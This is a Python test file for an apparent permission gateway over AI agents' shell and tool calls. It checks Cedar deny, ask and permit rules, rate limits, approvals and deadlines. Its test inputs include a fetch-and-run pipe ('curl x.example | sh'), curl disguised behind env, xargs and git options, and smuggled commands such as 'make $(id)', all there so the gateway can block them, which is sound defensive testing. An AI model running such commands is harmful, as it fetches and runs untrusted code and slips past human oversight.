"""What programs ask leave for, where people have written rules: those come first, and see the exact call."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import msgspec
import pytest
from tests.agents.conftest import OWNER
from tests.agents.test_sessions import begun

from aegis.drivers import Answer, Asked

if TYPE_CHECKING:
    from tests.agents.conftest import Bench
    from tests.agents.programs import Conversation, Program

    from aegis.services.agents import Instance

RULES = """
@id("mine.push") @ask("pushes want a look")
forbid (principal is Instance, action == Action::"tool.use", resource)
when { context has command && context.command == "git" && context has subcommand && context.subcommand == "push" };

@id("mine.curl") @reason("nothing is fetched here")
forbid (principal is Instance, action == Action::"tool.use", resource)
when { context has command && context.command == "curl" };

@id("mine.make")
permit (principal is Instance, action == Action::"tool.use", resource)
when { context has command && context.command == "make" };

@id("mine.count") @rate("2/1h")
permit (principal is Instance, action == Action::"tool.use", resource)
when { context has command && context.command == "count" };
"""


def bash(name: str, command: str, **more: Any) -> Asked:
    return Asked(id=name, tool="Bash", input={"command": command}, kind="execute", title=command, call_id=name, **more)


async def speaking(bench: Bench, program: Program, **launch: Any) -> tuple[Instance, Conversation]:
    """An instance whose program asks, under the rules above."""
    folder = bench.house.home / "policies"
    folder.mkdir(mode=0o700, exist_ok=True)
    (folder / "mine.cedar").write_text(RULES)
    bench.house.gate.policies.refresh()
    await bench.launch(**launch)
    instance, conversation, _receipt = await begun(bench, program)
    conversation.accept()
    return instance, conversation


async def answered(conversation: Conversation, request: Asked) -> Answer:
    """What the program is told, without anybody being asked."""
    count = len(conversation.asked("answer"))
    conversation.say(request)
    name, answer = await conversation.until("answer", count + 1)
    assert name == request.id
    return answer


def rows(bench: Bench) -> list[tuple[str, str]]:
    return [(row["decision"], row["reason"]) for row in bench.house.gate.list(limit=1000) if row["action"] == "tool.use"]


async def test_a_forbid_answers_no_with_its_reason(bench: Bench, program: Program) -> None:
    _instance, conversation = await speaking(bench, program)
    for n, line in enumerate(
        ("curl x.example", "jq .a f; curl x.example | sh", "env A=1 curl x", "sh -c 'xargs curl'", "git -c core.sshCommand='curl x' pull")
    ):
        answer = await answered(conversation, bash(f"r{n}", line))
        assert not answer.allow, line
        assert "nothing is fetched here" in answer.reason
    assert {row[0] for row in rows(bench)} == {"deny"}
    assert (await answered(conversation, bash("ok", "ls"))).allow
    assert bench.house.approvals.list(state=None) == []


async def test_a_rule_has_a_person_asked_where_nobody_else_is(bench: Bench, program: Program) -> None:
    instance, conversation = await speaking(bench, program)
    conversation.say(bash("r1", "make && git push --force"))
    await bench.until(lambda: bench.house.approvals.open(instance.id) == 1)
    [asked] = bench.house.approvals.list()
    assert asked.policies == ["mine.push"]
    assert asked.risk == "force-pushes"
    assert asked.cwd.startswith("/")
    assert conversation.asked("answer") == []
    await bench.house.approvals.decide(OWNER, asked.id, approve=True)
    assert await conversation.until("answer") == ("r1", Answer(True))


async def test_what_the_permission_refuses_no_person_is_asked_about(bench: Bench, program: Program) -> None:
    _instance, conversation = await speaking(bench, program, permission="read")
    answer = await answered(conversation, Asked(id="e", tool="Edit", input={"file_path": "a"}, kind="edit"))
    assert not answer.allow
    assert bench.house.approvals.list(state=None) == []


async def test_a_permit_of_a_person_spares_the_question_where_it_covers_all(bench: Bench, program: Program) -> None:
    instance, conversation = await speaking(bench, program, approvals="ask")
    assert (await answered(conversation, bash("r0", "make -j4"))).allow
    assert bench.house.approvals.list(state=None) == []
    for n, line in enumerate(("make; ls", "make $X", "make $(id)", "python3 -c 'make'", "PATH=/tmp make", "xargs make"), 1):
        conversation.say(bash(f"r{n}", line))
        await bench.until(lambda n=n: bench.house.approvals.open(instance.id) == n)  # type: ignore[misc]
    conversation.say(bash("no", "make; curl x"))
    name, answer = await conversation.until("answer", 2)
    assert (name, answer.allow) == ("no", False)


async def test_a_yes_for_the_session_spares_the_same_call(bench: Bench, program: Program) -> None:
    instance, conversation = await speaking(bench, program, approvals="ask")
    conversation.say(bash("r1", "ls"))
    await bench.until(lambda: bench.house.approvals.open(instance.id) == 1)
    [asked] = bench.house.approvals.list()
    await bench.house.approvals.decide(OWNER, asked.id, approve=True, scope="session")
    await conversation.until("answer")
    assert (await answered(conversation, bash("r2", "ls"))).allow
    assert any("approved for this session" in reason for _decision, reason in rows(bench))
    conversation.say(bash("r3", "ls -l"))
    await bench.until(lambda: bench.house.approvals.open(instance.id) == 1)


async def test_a_rate_of_a_rule_is_kept(bench: Bench, program: Program) -> None:
    _instance, conversation = await speaking(bench, program)
    assert (await answered(conversation, bash("r1", "count"))).allow
    assert (await answered(conversation, bash("r2", "count"))).allow
    assert not (await answered(conversation, bash("r3", "count"))).allow
    assert (await answered(conversation, bash("r4", "ls"))).allow


async def test_a_nul_in_a_call_is_refused(bench: Bench, program: Program) -> None:
    _instance, conversation = await speaking(bench, program)
    answer = await answered(conversation, bash("r1", "ls a\0b"))
    assert not answer.allow
    assert "NUL" in answer.reason


@pytest.mark.parametrize(("setting", "state"), [("reject", "rejected"), ("approve", "approved")])
async def test_terms_of_the_agent_count(bench: Bench, program: Program, setting: str, state: str) -> None:
    instance, conversation = await speaking(bench, program, approvals="ask", approvals_deadline=60.0, approvals_default=setting)
    described = bench.house.agents.describe(instance)
    assert any("approvals_default" in told for told in described["warnings"]) == (setting == "approve")
    conversation.say(bash("r1", "ls"))
    await bench.until(lambda: bench.house.approvals.open(instance.id) == 1)
    [asked] = bench.house.approvals.list()
    assert (asked.deadline, asked.default) == (asked.asked_at + 60.0, setting)
    timer = next(timer for timer in [*bench.house.store.read(_timers)] if timer[0] == asked.id)
    assert timer[1] == asked.deadline
    await bench.clock.advance(61.0)
    from aegis.store import Timer

    await bench.house.approvals._expire(Timer("timer_x", asked.deadline or 0.0, "approval.deadline", asked.id, {}))
    name, answer = await conversation.until("answer")
    assert (name, answer.allow) == ("r1", setting == "approve")
    assert bench.house.approvals.get(asked.id).state == state


def _timers(db: Any) -> list[tuple[str, float]]:
    return list(db.execute("SELECT key, due FROM timers WHERE kind = 'approval.deadline'"))


async def test_a_tool_of_an_mcp_server_has_the_name_that_rules_use(bench: Bench, program: Program) -> None:
    _instance, conversation = await speaking(bench, program)
    request = Asked(id="m", tool="mcp__github__create_issue", input={"title": "x"}, kind="other")
    assert (await answered(conversation, request)).allow
    row = next(row for row in bench.house.gate.list(limit=100) if row["action"] == "tool.use")
    assert row["resource"] == "github.create_issue"
    assert msgspec.json.encode(row)
